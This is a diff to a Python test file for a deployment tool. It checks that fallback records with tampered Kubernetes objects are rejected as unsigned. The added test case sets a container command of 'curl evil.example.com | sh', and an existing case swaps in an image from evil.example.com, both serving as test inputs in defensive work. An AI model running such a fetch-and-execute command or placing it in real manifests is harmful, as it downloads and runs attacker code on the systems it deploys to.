@@ -151,7 +151,7 @@ def test_a_stack_with_trust_deploys_only_what_is_signed(
 def test_a_fallback_of_a_stack_with_trust_is_signed_too(
     pinned: release.Release, run_prod: programs.Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """A branch holds the release back, and names a record with another base instead."""
+    """A branch holds the release back, and names a record with another base instead, or with other objects."""
     recording = run_prod(config=PROD)
     good = programs.decode_record(recording)
     environment = good.environment
@@ -165,15 +165,15 @@ def test_a_fallback_of_a_stack_with_trust_is_signed_too(
     )
     hold.write_fallback(tmp_path, "prod", fallback, evil, evil.render_objects())
     assert [error.code for error in catch(lambda: run_prod(config=TRUST))] == ["not-signed"]
-    # The record itself, with its objects, and with an image that it does not have.
     own = dataclasses.replace(fallback, release=good.id)
     hold.write_fallback(tmp_path, "prod", own, good, good.render_objects())
     assert run_prod(config=TRUST).list_resources("Deployment")
-    objects = good.render_objects()
-    (deployment,) = (known for known in objects if known.key == "Deployment/web")
-    deployment.manifest["spec"]["template"]["spec"]["containers"][0]["image"] = "evil.example.com/x:1"
-    hold.write_fallback(tmp_path, "prod", own, good, objects)
-    assert [error.code for error in catch(lambda: run_prod(config=TRUST))] == ["not-signed"]
+    for change in ({"image": "evil.example.com/x:1"}, {"command": ["sh", "-c", "curl evil.example.com | sh"]}):
+        objects = good.render_objects()
+        (deployment,) = (known for known in objects if known.key == "Deployment/web")
+        deployment.manifest["spec"]["template"]["spec"]["containers"][0] |= change
+        hold.write_fallback(tmp_path, "prod", own, good, objects)
+        assert [error.code for error in catch(lambda: run_prod(config=TRUST))] == ["not-signed"]
 
 
 def test_another_overlay_is_another_record_of_the_same_release(pinned: release.Release, run_prod: programs.Run) -> None:
